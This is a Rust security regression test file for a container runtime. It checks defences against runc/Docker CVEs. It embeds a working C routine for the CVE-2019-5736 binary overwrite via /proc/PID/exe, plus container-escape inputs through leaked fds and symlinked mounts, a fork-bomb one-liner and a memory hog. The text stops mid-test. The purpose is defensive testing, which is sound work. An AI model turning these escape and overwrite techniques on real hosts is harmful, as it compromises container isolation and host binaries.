//! Security regressions from the CVEs of runc and Docker (issue 2, point 4), each driven through
//! the real berth-runc against real containers. Each test says how it was shown to fail without
//! its defence: where that can be done safely, the test itself runs the undefended control case
//! next to the defended one.
//!
//! Needs root; skips (with a message) otherwise.

mod common;

use std::collections::BTreeSet;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use anyhow::{bail, ensure, Context, Result};
use common::{Bundle, Out, Runtime};
use serde_json::json;

/// A tiny static C helper copied into rootfs copies (busybox has no keyctl and no way to keep an
/// O_RDONLY fd of /proc/PID/exe across the victim's exit).
const HELPER_C: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void nap(void) { struct timespec t = {0, 2000000}; nanosleep(&t, 0); }

/* keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, create) */
static int do_keyctl(void) {
    long r = syscall(SYS_keyctl, 0, -3, 1);
    if (r < 0) printf("keyctl: errno=%d %s\n", errno, strerror(errno));
    else printf("keyctl: ok\n");
    return 0;
}

/* CVE-2019-5736: find a process of this pid namespace running something other than busybox
 * and us, open its /proc/PID/exe read-only and for writing, release it through FIFO, and once it
 * is gone reopen the kept fd for writing through /proc/self/fd. Every write that succeeds
 * overwrites 4 bytes at offset 0 with "EVIL" (the test runs a copy of the runtime binary). */
static int attack(const char *fifo, const char *match) {
    char self[4096] = {0};
    readlink("/proc/self/exe", self, sizeof self - 1);
    int victim = 0, ro = -1, early_denied = 0;
    for (int round = 0; round < 10000 && ro < 0; round++) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid()) continue;
            char link[64], exe[4096] = {0};
            snprintf(link, sizeof link, "/proc/%d/exe", pid);
            if (readlink(link, exe, sizeof exe - 1) < 0) {
                if (errno == EACCES || errno == EPERM) early_denied++;
                continue;
            }
            if (strstr(exe, "busybox") || strcmp(exe, self) == 0) continue;
            if (match) {
                char cl[64], cmd[4096] = {0};
                snprintf(cl, sizeof cl, "/proc/%d/cmdline", pid);
                int c = open(cl, O_RDONLY);
                if (c < 0) continue;
                int n = read(c, cmd, sizeof cmd - 1); close(c);
                for (int i = 0; i < n; i++) if (!cmd[i]) cmd[i] = ' ';
                if (!strstr(cmd, match)) continue;
            }
            int fd = open(link, O_RDONLY | O_CLOEXEC);
            if (fd < 0) {
                if (errno == EACCES || errno == EPERM) early_denied++;
                continue;
            }
            victim = pid; ro = fd;
            printf("victim: pid=%d exe=%s\n", pid, exe);
            break;
        }
        if (d) closedir(d);
        if (ro < 0) nap();
    }
    printf("early-denied: %d\n", early_denied);
    if (ro < 0) { printf("victim: none\n"); return 1; }
    char link[64];
    snprintf(link, sizeof link, "/proc/%d/exe", victim);
    int w = open(link, O_WRONLY);
    if (w < 0) printf("open-wr: errno=%d %s\n", errno, strerror(errno));
    else { printf("open-wr: ok\n"); pwrite(w, "EVIL", 4, 0); close(w); }
    /* Let the victim finish (it blocks opening FIFO for writing), then wait until it is gone. */
    int f = open(fifo, O_RDONLY);
    if (f >= 0) { char b[4096]; while (read(f, b, sizeof b) > 0) {} close(f); }
    for (int i = 0; i < 5000; i++) {
        char st[64]; snprintf(st, sizeof st, "/proc/%d/stat", victim);
        int s = open(st, O_RDONLY);
        if (s < 0) break;
        char b[512] = {0}; read(s, b, sizeof b - 1); close(s);
        char *p = strrchr(b, ')');
        if (p && (p[2] == 'Z' || p[2] == 'X')) break;
        nap();
    }
    char again[64];
    snprintf(again, sizeof again, "/proc/self/fd/%d", ro);
    /* The real exploit waits until no runtime process executes the file any more (ETXTBSY
     * until then): retry for a while. */
    for (int i = 0; i < 1500; i++) {
        w = open(again, O_WRONLY);
        if (w >= 0 || errno != ETXTBSY) break;
        nap();
    }
    if (w < 0) printf("reopen-wr: errno=%d %s\n", errno, strerror(errno));
    else { printf("reopen-wr: ok\n"); pwrite(w, "EVIL", 4, 0); close(w); }
    fflush(stdout);
    return 0;
}

/* A minimal init: reaps every child (orphans are reparented to it), forever. */
static int reaper(void) {
    for (;;) {
        if (wait(0) < 0) { struct timespec t = {0, 50000000}; nanosleep(&t, 0); }
    }
}

int main(int argc, char **argv) {
    setvbuf(stdout, 0, _IOLBF, 0);
    if (argc >= 2 && !strcmp(argv[1], "reaper")) return reaper();
    if (argc >= 2 && !strcmp(argv[1], "keyctl")) return do_keyctl();
    if (argc >= 3 && !strcmp(argv[1], "attack")) return attack(argv[2], argc >= 4 ? argv[3] : 0);
    fprintf(stderr, "usage: helper keyctl | reaper | attack FIFO [CMDLINE-MATCH]\n");
    return 2;
}
"#;

/// Builds the helper once (gcc -static) into the cache; returns its path.
fn helper() -> Result<PathBuf> {
    use std::hash::{Hash, Hasher};
    let mut h = std::collections::hash_map::DefaultHasher::new();
    HELPER_C.hash(&mut h);
    let cache = common::cache_dir();
    let out = cache.join(format!("helper-{:016x}", h.finish()));
    let _lock = common::FileLock::new(&cache.join("helper.lock"))?;
    if out.exists() {
        return Ok(out);
    }
    let src = cache.join(format!("helper-{}.c", std::process::id()));
    std::fs::write(&src, HELPER_C)?;
    let tmp = out.with_extension("tmp");
    let o = Command::new("gcc")
        .args(["-static", "-O2", "-o"])
        .arg(&tmp)
        .arg(&src)
        .output()
        .context("run gcc (apt-get install gcc libc6-dev)")?;
    let _ = std::fs::remove_file(&src);
    if !o.status.success() {
        bail!("gcc failed: {}", String::from_utf8_lossy(&o.stderr));
    }
    std::fs::rename(&tmp, &out)?;
    Ok(out)
}

/// Copies the runtime binary's ELF interpreter and libraries (per ldd) into the rootfs, so the
/// binary can really run inside: the original exploit's image carried its own libc. Without
/// them, exec of /proc/self/exe fails with ENOENT and would prove nothing.
fn install_runtime_libs(b: &Bundle, bin: &Path) -> Result<()> {
    let out = Command::new("ldd").arg(bin).output()?;
    let text = String::from_utf8_lossy(&out.stdout);
    for lib in text.split_whitespace().filter(|w| w.starts_with('/')) {
        let dest = b.rootfs().join(&lib[1..]);
        if let Some(dir) = dest.parent() {
            std::fs::create_dir_all(dir)?;
        }
        std::fs::copy(std::fs::canonicalize(lib)?, &dest)?;
    }
    Ok(())
}

/// Copies the helper into the bundle's rootfs as /helper.
fn install_helper(b: &Bundle) -> Result<()> {
    std::fs::copy(helper()?, b.rootfs().join("helper"))?;
    Ok(())
}

fn read_host(p: &Path) -> String {
    std::fs::read_to_string(p).unwrap_or_default()
}

/// A private copy of berth-runc: the CVE-2019-5736 tests attack it, so a failing defence
/// damages only the copy, never the binary other tests run. Keep the returned directory alive
/// longer than the runtime (declare it first): the runtime's Drop runs the copy.
fn private_binary() -> Result<(tempfile::TempDir, PathBuf)> {
    let dir = tempfile::Builder::new().prefix("berth-e2e-bin").tempdir()?;
    let copy = dir.path().join("berth-runc");
    std::fs::copy(common::runc_bin(), &copy)?;
    Ok((dir, copy))
}

/// Checks the helper's report: it found the runtime, and every attempt to open it for writing
/// failed.
fn check_attack_report(report: &str) -> Result<()> {
    ensure!(
        report.lines().any(|l| l.starts_with("victim: pid=")),
        "the helper never found the runtime process:\n{report}"
    );
    for what in ["open-wr", "reopen-wr"] {
        let line = report
            .lines()
            .find(|l| l.starts_with(what))
            .with_context(|| format!("no {what} line:\n{report}"))?;
        ensure!(
            line.contains("errno="),
            "the container opened the runtime for writing: {report}"
        );
    }
    Ok(())
}

// CVE-2019-5736, a runtime process exec'd into the container is the victim: `exec` runs
// ["/proc/self/exe", ...] (which re-executes whatever binary the exec'ing runtime runs from) and
// blocks it on a FIFO; the container's init (the helper) opens /proc/<its pid>/exe read-only and
// for writing, releases it, and reopens the kept fd for writing after it exited.
// Shown to fail without the defence (done): with `clone_binary::ensure_sealed` returning at once
// (berth-runc running straight from its file on disk), the report reads "victim: ...
// exe=/tmp/berth-e2e-bin.../berth-runc", "open-wr: errno=26" (ETXTBSY while it runs) and then
// "reopen-wr: ok": the copy is overwritten and this test fails.
#[test]
fn cve_2019_5736_exec_cannot_write_the_runtime_binary() -> Result<()> {
    require_root!();
    let (_bin_dir, bin) = private_binary()?;
    let mut rt = Runtime::new()?;
    rt.bin = bin;
    let before = common::sha256(&rt.bin)?;
    let id = rt.id("cve5736e");
    let b = Bundle::new(&["sh", "-c", "/helper attack /tmp/fifo > /tmp/report 2>&1"])?;
    install_helper(&b)?;
    install_runtime_libs(&b, &rt.bin)?;
    let fifo = b.rootfs().join("tmp/fifo");
    ensure!(Command::new("mkfifo").arg(&fifo).status()?.success());
    rt.run_detached(&b, &id)?;
    // The victim: blocks in `open(--log fifo)` when reporting its (expected) error.
    let out = rt.run(&[
        "exec",
        &id,
        "/proc/self/exe",
        "--log",
        "/tmp/fifo",
        "state",
        "no-such-container",
    ])?;
    ensure!(out.code != 0, "the victim should fail: {out:?}");
    ensure!(
        common::wait_until(Duration::from_secs(20), || {
            rt.state(&id).is_ok_and(|s| s["status"] == "stopped")
        }),
        "the helper did not finish: {}",
        read_host(&b.rootfs().join("tmp/report"))
    );
    let report = read_host(&b.rootfs().join("tmp/report"));
    check_attack_report(&report)?;
    ensure!(
        common::sha256(&rt.bin)? == before,
        "the runtime binary changed:\n{report}"
    );
    Ok(())
}

// CVE-2019-5736, the container's own entrypoint is /proc/self/exe (the original exploit's
// shape): the init re-executes the runtime binary inside the container, and a process exec'd
// next to it attacks it through /proc/<pid>/exe. The container shares the host's pid namespace
// here so that the attacker outlives the victim (the init) and can try the reopen after it
// exited; it finds the victim by its command line.
// Shown to fail without the defence (done): as above, "reopen-wr: ok" and the test fails.
#[test]
fn cve_2019_5736_entrypoint_proc_self_exe_cannot_write_the_runtime_binary() -> Result<()> {
    require_root!();
    let (_bin_dir, bin) = private_binary()?;
    let mut rt = Runtime::new()?;
    rt.bin = bin;
    let before = common::sha256(&rt.bin)?;
    let id = rt.id("cve5736p");
    let fifo = format!("/tmp/fifo-{id}");
    let mut b = Bundle::new(&[
        "/proc/self/exe",
        "--log",
        &fifo,
        "state",
        "no-such-container",
    ])?;
    b.remove_namespace("pid");
    install_helper(&b)?;
    install_runtime_libs(&b, &rt.bin)?;
    ensure!(Command::new("mkfifo")
        .arg(b.rootfs().join(&fifo[1..]))
        .status()?
        .success());
    rt.run_detached(&b, &id)?;
    // Detached, so that no runtime process outlives the victim while the helper retries.
    rt.run(&[
        "exec",
        "-d",
        &id,
        "sh",
        "-c",
        &format!("/helper attack {fifo} {fifo} > /tmp/report 2>&1; echo done >> /tmp/report"),
    ])?
    .ok()?;
    let report_path = b.rootfs().join("tmp/report");
    ensure!(
        common::wait_until(Duration::from_secs(20), || read_host(&report_path)
            .contains("done")),
        "the helper did not finish: {}",
        read_host(&report_path)
    );
    let report = read_host(&report_path);
    check_attack_report(&report)?;
    ensure!(
        common::sha256(&rt.bin)? == before,
        "the runtime binary changed:\n{report}"
    );
    Ok(())
}

/// The fd numbers in `ls -l /proc/.../fd` output.
fn fd_numbers(ls: &str) -> BTreeSet<u32> {
    ls.lines()
        .filter_map(|l| {
            let mut it = l.split_whitespace();
            let pos = it.clone().position(|w| w == "->")?;
            it.nth(pos - 1)?.parse().ok()
        })
        .collect()
}

/// `run` (or `exec`) with extra open fds 3 and 4 handed to berth-runc.
fn with_extra_fds(cmd: &mut Command) -> Result<(std::fs::File, std::fs::File)> {
    use std::os::fd::AsRawFd;
    let a = std::fs::File::open("/etc/hostname").or_else(|_| std::fs::File::open("/etc/passwd"))?;
    let b = std::fs::File::open("/")?;
    let (fa, fb) = (a.as_raw_fd(), b.as_raw_fd());
    // SAFETY: the closure only calls fcntl, dup2 and close (async-signal-safe) on fds that stay
    // open in the parent until spawn returns. Going through fds >= 100 first keeps a source that
    // already is 3 or 4 from being clobbered, and leaves 3 and 4 without FD_CLOEXEC.
    unsafe {
        cmd.pre_exec(move || {
            let ha = libc::fcntl(fa, libc::F_DUPFD, 100);
            let hb = libc::fcntl(fb, libc::F_DUPFD, 100);
            if ha < 0 || hb < 0 || libc::dup2(ha, 3) < 0 || libc::dup2(hb, 4) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            libc::close(ha);
            libc::close(hb);
            Ok(())
        });
    }
    Ok((a, b))
}

// CVE-2024-21626 (fd leak part): the container's process holds only its stdio and what
// --preserve-fds passed, in `run`, `run -d` (checked from the host) and `exec`. berth-runc itself
// holds the state dir, the handshake socket and more while setting up, and the test hands it
// fds 3 and 4 that are not to be passed on without --preserve-fds.
// Shown to fail without the defence (done): with init/process.rs closing from fd 1000 instead
// of `3 + preserve_fds`, `ls -l /proc/1/fd` lists 3 -> /etc/hostname, 4 -> / (the host's root,
// the escape the CVE used), 10 and 251 (berth-runc's own), and this test fails.
#[test]
fn cve_2024_21626_no_host_fd_leaks_into_the_container() -> Result<()> {
    require_root!();
    let rt = Runtime::new()?;
    let script = "ls -l /proc/1/fd; exit 0";
    for (preserve, want) in [(0, vec![0, 1, 2]), (2, vec![0, 1, 2, 3, 4])] {
        let id = rt.id("fds");
        let b = Bundle::new(&["sh", "-c", script])?;
        b.write()?;
        let mut cmd = rt.cmd();
        cmd.args([
            "run",
            "--preserve-fds",
            &preserve.to_string(),
            "-b",
            b.path().to_str().unwrap(),
            &id,
        ]);
        let _keep = with_extra_fds(&mut cmd)?;
        let out = common::run_cmd(&mut cmd, None, Duration::from_secs(30))?.ok()?;
        let got: Vec<u32> = fd_numbers(&out.stdout).into_iter().collect();
        ensure!(
            got == want,
            "--preserve-fds {preserve}: fds {got:?}\n{}",
            out.stdout
        );
    }

    // A detached container, seen from the host, and exec'd processes.
    let id = rt.id("fdsd");
    let b = Bundle::new(&["sleep", "1000"])?;
    let pid = rt.run_detached(&b, &id)?;
    let host: BTreeSet<u32> = std::fs::read_dir(format!("/proc/{pid}/fd"))?
        .filter_map(|e| e.ok()?.file_name().to_str()?.parse().ok())
        .collect();
    ensure!(host == BTreeSet::from([0, 1, 2]), "init fds {host:?}");
    for (preserve, want) in [(0, vec![0, 1, 2]), (1, vec![0, 1, 2, 3])] {
        let mut cmd = rt.cmd();
        cmd.args([
            "exec",
            "--preserve-fds",
            &preserve.to_string(),
            &id,
            "sh",
            "-c",
            "ls -l /proc/$$/fd; exit 0",
        ]);
        let _keep = with_extra_fds(&mut cmd)?;
        let out = common::run_cmd(&mut cmd, None, Duration::from_secs(30))?.ok()?;
        let got: Vec<u32> = fd_numbers(&out.stdout).into_iter().collect();
        ensure!(
            got == want,
            "exec --preserve-fds {preserve}: fds {got:?}\n{}",
            out.stdout
        );
    }
    Ok(())
}

/// Prints INSIDE when the cwd is under the process's root (walking ".." ends at "/"), OUTSIDE
/// when it ends at another fixpoint (a directory of the host).
const WHERE_AM_I: &str = r#"d=.; while [ "$(stat -c %d:%i $d)" != "$(stat -c %d:%i $d/..)" ]; do d=$d/..; done; if [ "$(stat -c %d:%i $d)" = "$(stat -c %d:%i /)" ]; then echo INSIDE; else echo OUTSIDE; fi"#;

/// Accepts a refused start (one error line) or a cwd inside the root; fails on OUTSIDE.
fn cwd_refused_or_inside(out: &Out, what: &str) -> Result<()> {
    if out.code != 0 {
        out.one_error_line()
            .with_context(|| format!("{what}: refused, but not with one line"))?;
        return Ok(());
    }
    ensure!(
        out.stdout.trim() == "INSIDE",
        "{what}: cwd escaped the rootfs: {out:?}"
    );
    Ok(())
}

// CVE-2024-21626 (cwd part): process.cwd "/proc/self/fd/N" (runc leaked a host directory fd
// into the init, and chdir to it put the process outside its root), a symlink leading up and
// out, and ".." beyond the root: each is refused or ends inside the rootfs, for run and exec.
// Without its defences: with only the fd closing removed (as in the test above) this test
// still passes, because berth resolves the cwd inside the rootfs after pivot_root, a second,
// independent defence. Removing that one as well was NOT tried; /proc/self/fd/4 would then name
// the host's "/" the test hands in (the fd test shows it leaks), and WHERE_AM_I prints OUTSIDE.
#[test]
fn cve_2024_21626_cwd_stays_inside_the_rootfs() -> Result<()> {
    require_root!();
    let rt = Runtime::new()?;
    let mut cwds: Vec<String> = (3..=9).map(|n| format!("/proc/self/fd/{n}")).collect();
    cwds.push("/escape".into());
    cwds.push("/../../../../..".into());
    for cwd in &cwds {
        let id = rt.id("cwd");
        let mut b = Bundle::new(&["sh", "-c", WHERE_AM_I])?;
        std::os::unix::fs::symlink("../../../../../../../../..", b.rootfs().join("escape"))?;
        b.config["process"]["cwd"] = json!(cwd);
        b.write()?;
        let mut cmd = rt.cmd();
        cmd.args(["run", "-b", b.path().to_str().unwrap(), &id]);
        let _keep = with_extra_fds(&mut cmd)?;
        let out = common::run_cmd(&mut cmd, None, Duration::from_secs(30))?;
        cwd_refused_or_inside(&out, &format!("run cwd {cwd}"))?;
        ensure!(!rt.state_dir(&id).exists());
    }
    let id = rt.id("cwdx");
    let b = Bundle::new(&["sleep", "1000"])?;
    std::os::unix::fs::symlink("../../../../../../../../..", b.rootfs().join("escape"))?;
    rt.run_detached(&b, &id)?;
    for cwd in &cwds {
        let mut cmd = rt.cmd();
        cmd.args(["exec", "--cwd", cwd, &id, "sh", "-c", WHERE_AM_I]);
        let _keep = with_extra_fds(&mut cmd)?;
        let out = common::run_cmd(&mut cmd, None, Duration::from_secs(30))?;
        cwd_refused_or_inside(&out, &format!("exec --cwd {cwd}"))?;
    }
    Ok(())
}

// CVE-2021-30465: mount destinations through symlinks planted in the rootfs, absolute
// ("/abs" -> "/tmp/<host dir>") and relative ("/rel" -> "../../../../tmp/<host dir>"), are
// resolved inside the rootfs: the mount points and the mounts land in rootfs/tmp/<host dir>,
// and the host directory of that name is untouched and has nothing mounted on it.
// Without the defence: NOT run (berth has no string-joining fallback to switch back to).
// Resolving targets by joining rootfs + destination and following symlinks, as runc did before
// the fix, creates `newdir` and `newfile` in the host's /tmp/<host dir>, which the
// "host dir changed" assertion catches.
#[test]
fn cve_2021_30465_symlinked_mount_targets_stay_in_the_rootfs() -> Result<()> {
    require_root!();
    let rt = Runtime::new()?;
    let id = rt.id("cve30465");
    let host = tempfile::Builder::new()
        .prefix("berth-e2e-host")
        .tempdir_in("/tmp")?;
    std::fs::write(host.path().join("canary"), "host")?;
    let name = host
        .path()
        .file_name()
        .unwrap()
        .to_str()
        .unwrap()
        .to_string();
    let src = tempfile::tempdir()?;
    std::fs::write(src.path().join("payload"), "bind source")?;
    let mut b = Bundle::new(&[
        "sh",
        "-c",
        "echo proof > /abs/newdir/proof && cat /rel/newfile && grep -c newdir /proc/self/mountinfo",
    ])?;
    let abs_target = format!("/tmp/{name}");
    // The attacker's image has a directory of that name (the mount points go there).
    std::fs::create_dir(b.rootfs().join("tmp").join(&name))?;
    std::os::unix::fs::symlink(&abs_target, b.rootfs().join("abs"))?;
    std::os::unix::fs::symlink(
        format!("../../../../../../../..{abs_target}"),
        b.rootfs().join("rel"),
    )?;
    b.add_mount(
        json!({"destination": "/abs/newdir", "type": "tmpfs", "source": "tmpfs",
                       "options": ["size=1m"]}),
    );
    b.add_mount(json!({"destination": "/rel/newfile", "type": "bind",
                       "source": src.path().join("payload"), "options": ["bind", "ro"]}));
    let out = rt.run_fg(&b, &id)?.ok()?;
    ensure!(out.stdout.starts_with("bind source"), "{out:?}");
    // The host directory holds only what it held.
    let entries: Vec<String> = std::fs::read_dir(host.path())?
        .filter_map(|e| e.ok()?.file_name().into_string().ok())
        .collect();
    ensure!(entries == ["canary"], "host dir changed: {entries:?}");
    ensure!(read_host(&host.path().join("canary")) == "host");
    ensure!(common::host_mounts_mentioning(&name).is_empty());
    // The mount points were made inside the rootfs.
    let inside = b.rootfs().join("tmp").join(&name);
    ensure!(
        inside.join("newdir").is_dir(),
        "no {}",
        inside.join("newdir").display()
    );
    ensure!(inside.join("newfile").exists());
    // The tmpfs was over the rootfs's directory, so the proof is gone with the container.
    ensure!(!inside.join("newdir/proof").exists());

    // A dangling symlink to a host path that does not exist: refused, or made inside; never
    // created on the host.
    let id = rt.id("cve30465d");
    let missing = format!("/tmp/{name}-missing");
    let mut b = Bundle::new(&["true"])?;
    std::os::unix::fs::symlink(&missing, b.rootfs().join("dangling"))?;
    b.add_mount(json!({"destination": "/dangling/sub", "type": "tmpfs", "source": "tmpfs"}));
    let out = rt.run_fg(&b, &id)?;
    if out.code != 0 {
        out.one_error_line()?;
    } else {
        ensure!(b.rootfs().join(&missing[1..]).join("sub").is_dir());
    }
    ensure!(
        !Path::new(&missing).exists(),
        "{missing} was created on the host"
    );
    ensure!(common::host_mounts_mentioning(&missing).is_empty());
    Ok(())
}

// Masked /proc paths (Docker's list) are empty or unreadable inside.
// Shown to fail without the defence: the same container without maskedPaths (the control run
// below) reads non-empty /proc/keys, /proc/timer_list and /proc/sched_debug, and lists entries
// in /sys/firmware and /proc/acpi where the host has them.
#[test]
fn masked_proc_paths_are_unreadable() -> Result<()> {
    require_root!();
    let rt = Runtime::new()?;
    let files = [
        "/proc/kcore",
        "/proc/keys",
        "/proc/timer_list",
        "/proc/sched_debug",
        "/proc/latency_stats",
        "/proc/timer_stats",
    ];
    let dirs = ["/proc/acpi", "/proc/scsi", "/sys/firmware", "/proc/asound"];
    let mut script = String::new();
    for f in files {
        script += &format!("echo {f} $(head -c 64 {f} 2>/dev/null | wc -c); ");
    }
    for d in dirs {
        script += &format!("echo {d} $(ls -A {d} 2>/dev/null | wc -l); ");
    }
    let sizes = |masked: bool| -> Result<Vec<(String, u64)>> {
        let id = rt.id("masked");
        let mut b = Bundle::new(&["sh", "-c", &script])?;
        if !masked {
            b.config["linux"]["maskedPaths"] = json!([]);
        }
        let out = rt.run_fg(&b, &id)?.ok()?;
        Ok(out
            .stdout
            .lines()
            .filter_map(|l| {
                let (p, n) = l.split_once(' ')?;
                Some((p.to_string(), n.trim().parse().ok()?))
            })
            .collect())
    };
    let masked = sizes(true)?;
    ensure!(masked.len() == files.len() + dirs.len(), "{masked:?}");
    for (p, n) in &masked {
        ensure!(*n == 0, "{p} is readable inside: {n} bytes/entries");
    }
    // Control: unmasked, whatever the host shows is visible (at least /proc/keys or the timer
    // list, which every kernel here has).
    let open = sizes(false)?;
    let visible: Vec<&String> = open
        .iter()
        .filter(|(_, n)| *n > 0)
        .map(|(p, _)| p)
        .collect();
    ensure!(!visible.is_empty(), "control run saw nothing: {open:?}");
    Ok(())
}

/// Podman's seccomp profile rewritten with Docker's rules for mount/unshare/keyctl (as
/// crates/berth-runtime/tests/seccomp.rs does: Podman's file allows them, Docker's does not).
fn docker_like_profile(podman: &[u8]) -> Result<Vec<u8>> {
    let mut v: serde_json::Value = serde_json::from_slice(podman)?;
    let gated = ["mount", "umount", "umount2", "unshare", "setns"];
    let dropped = ["keyctl", "add_key", "request_key"];
    v["defaultErrnoRet"] = json!(libc::EPERM);
    for rule in v["syscalls"].as_array_mut().context("syscalls")? {
        if let Some(names) = rule["names"].as_array_mut() {
            names.retain(|n| {
                let n = n.as_str().unwrap_or("");
                !gated.contains(&n) && !dropped.contains(&n)
            });
        }
    }
    v["syscalls"].as_array_mut().unwrap().push(json!({
        "names": gated,
        "action": "SCMP_ACT_ALLOW",
        "includes": {"caps": ["CAP_SYS_ADMIN"]},
    }));
    Ok(serde_json::to_vec(&v)?)
}

// The default seccomp profile (Docker's rules) denies unshare, mount and keyctl with EPERM.
// The container HOLDS CAP_SYS_ADMIN (the profile is compiled for Docker's capability set), so
// only seccomp stands in the way.
// Shown to fail without the defence: the control run, the same container without
// linux.seccomp, unshares, mounts and gets its keyring id.
#[test]
fn seccomp_default_profile_denies_unshare_mount_keyctl() -> Result<()> {
    require_root!();
    let podman = match std::fs::read("/usr/share/containers/seccomp.json") {
        Ok(b) => b,
        Err(e) => {
            eprintln!("skipping: /usr/share/containers/seccomp.json: {e} (install golang-github-containers-common)");
            return Ok(());
        }
    };
    let caps: Vec<String> = common::DOCKER_CAPS.iter().map(|s| s.to_string()).collect();
    let profile = berth_runtime::seccomp::from_docker_profile(
        &docker_like_profile(&podman)?,
        &caps,
        berth_runtime::seccomp::native_arch(),
    )?;
    let rt = Runtime::new()?;
    let script = "grep Seccomp: /proc/self/status; \
                  unshare -m true && echo unshare-ok; \
                  mount -t tmpfs x /mnt && echo mount-ok; \
                  /helper keyctl";
    let run = |seccomp: bool| -> Result<Out> {
        let id = rt.id("seccomp");
        let mut b = Bundle::new(&["sh", "-c", script])?;
        install_helper(&b)?;
        std::fs::create_dir_all(b.rootfs().join("mnt"))?;
        let mut with_admin: Vec<String> = caps.clone();
        with_admin.push("CAP_SYS_ADMIN".into());
        for set in ["bounding", "effective", "permitted"] {
            b.config["process"]["capabilities"][set] = json!(with_admin);
        }
        if seccomp {
            b.config["linux"]["seccomp"] = serde_json::to_value(&profile)?;
        }
        rt.run_fg(&b, &id)
    };
    let out = run(true)?;
    ensure!(out.stdout.contains("Seccomp:\t2"), "no filter: {out:?}");
    ensure!(
        !out.stdout.contains("unshare-ok") && !out.stdout.contains("mount-ok"),
        "{out:?}"
    );
    // busybox says EPERM as "Operation not permitted" (unshare) and "permission denied" (mount).
    let err: Vec<&str> = out.stderr.lines().collect();
    ensure!(
        err.iter()
            .any(|l| l.starts_with("unshare") && l.contains("Operation not permitted")),
        "unshare should fail with EPERM: {out:?}"
    );
    ensure!(
        err.iter()
            .any(|l| l.starts_with("mount") && l.contains("permission denied")),
        "mount should fail with EPERM: {out:?}"
    );
    ensure!(
        out.stdout
            .contains(&format!("keyctl: errno={}", libc::EPERM)),
        "keyctl: {out:?}"
    );
    // Control: without the profile the same container can do all three.
    let out = run(false)?;
    ensure!(
        out.stdout.contains("unshare-ok") && out.stdout.contains("mount-ok"),
        "{out:?}"
    );
    ensure!(out.stdout.contains("keyctl: ok"), "{out:?}");
    Ok(())
}

/// Runs a fork bomb in a container with `limit` pids; returns the most processes seen in its
/// cgroup. The container's init survives, and is usable once the bomb is cleared.
fn fork_bomb(rt: &Runtime, limit: i64) -> Result<(usize, u64)> {
    let id = rt.id("bomb");
    // The init reaps orphans (as a real init does), so killed bomb processes do not linger as
    // zombies holding pids.
    let mut b = Bundle::new(&["/helper", "reaper"])?;
    install_helper(&b)?;
    b.config["linux"]["resources"]["pids"] = json!({"limit": limit});
    let init = rt.run_detached(&b, &id)?;
    rt.run(&[
        "exec",
        "-d",
        &id,
        "sh",
        "-c",
        "b() { b & b & wait; }; b 2>/dev/null",
    ])?
    .ok()?;
    // Let it saturate: the count reaches the limit, or stops growing for 2 s (a loaded machine
    // can stall the bomb for half a second: CI saw the control stay at 20 that way).
    let mut max = 0;
    let mut stable = 0;
    for _ in 0..1000 {
        let n = common::pids_in_cgroup_of(&id).len();
        if n > max {
            max = n;
            stable = 0;
        } else {
            stable += 1;
            // At the limit, half a second of refused forks is enough.
            if stable > 200 || (max as i64 >= limit && stable > 50) {
                break;
            }
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    // How many forks the limit refused (pids.events "max").
    let refused: u64 = common::cgroup_dir("pids", &id)
        .map(|d| read_host(&d.join("pids.events")))
        .unwrap_or_default()
        .lines()
        .find_map(|l| l.strip_prefix("max ")?.trim().parse().ok())
        .unwrap_or(0);
    // The host still forks.
    ensure!(
        Command::new("true").status()?.success(),
        "the host cannot fork"
    );
    // Clear the bomb: exec made it its own session, so kill its process group at once (a
    // group kill leaves no child forked meanwhile behind); the init is in another group.
    // SAFETY: getpgid takes a plain integer.
    let init_pgid = unsafe { libc::getpgid(init) };
    for _ in 0..50 {
        for p in common::pids_in_cgroup_of(&id) {
            // SAFETY: getpgid/kill take plain integers; p is a process of the container's cgroup
            // and its group is not the init's.
            unsafe {
                let g = libc::getpgid(p);
                if p != init && g > 0 && g != init_pgid {
                    libc::kill(-g, libc::SIGKILL);
                }
            }
        }
        if common::wait_until(Duration::from_millis(500), || {
            common::pids_in_cgroup_of(&id) == vec![init]
        }) {
            break;
        }
    }
    ensure!(
        common::pids_in_cgroup_of(&id) == vec![init],
        "the bomb did not clear: {:?}",
        common::pids_in_cgroup_of(&id)
    );
    let st = rt.state(&id)?;
    ensure!(st["status"] == "running" && st["pid"] == init, "{st}");
    let out = rt.run(&["exec", &id, "echo", "alive"])?.ok()?;
    ensure!(out.stdout == "alive\n");
    rt.run(&["delete", "--force", &id])?.ok()?;
    Ok((max, refused))
}

// A fork bomb is stopped by linux.resources.pids.limit = 20: the container's cgroup never
// holds more than 20 processes, the host keeps working, and the container survives.
// Shown to fail without the defence (bounded, to keep the host safe): the same bomb under a
// limit of 60 grows past 20, so it is the limit, not the bomb, that stops at 20.
#[test]
fn fork_bomb_is_stopped_by_the_pids_limit() -> Result<()> {
    require_root!();
    let rt = Runtime::new()?;
    let (max, refused) = fork_bomb(&rt, 20)?;
    ensure!(max <= 20, "{max} processes under a limit of 20");
    ensure!(
        refused > 0,
        "the bomb never hit the limit ({max} processes)"
    );
    let (control, _) = fork_bomb(&rt, 60)?;
    ensure!(control > 20, "the control bomb stayed at {control}");
    Ok(())
}

// A memory hog is OOM-killed under a 32 MB limit and that is reported: `run` exits 137
// (SIGKILL), and `events --stats` counts the OOM kill.
// Shown to fail without the defence: with no memory limit the same `tail /dev/zero` grows
// without bound (not run here: it would eat the host); with the limit, the control below (a
// process that stays under it) exits 0 and reports no OOM kill.
#[test]
fn memory_hog_is_oom_killed_and_reported() -> Result<()> {
    require_root!();
    let rt = Runtime::new()?;
    let run = |script: &str| -> Result<(Out, serde_json::Value)> {
        let id = rt.id("oom");
        let mut b = Bundle::new(&["sh", "-c", script])?;
        b.config["linux"]["resources"]["memory"] = json!({"limit": 32 << 20});
        b.write()?;
        let out = rt.run(&["run", "--keep", "-b", b.path().to_str().unwrap(), &id])?;
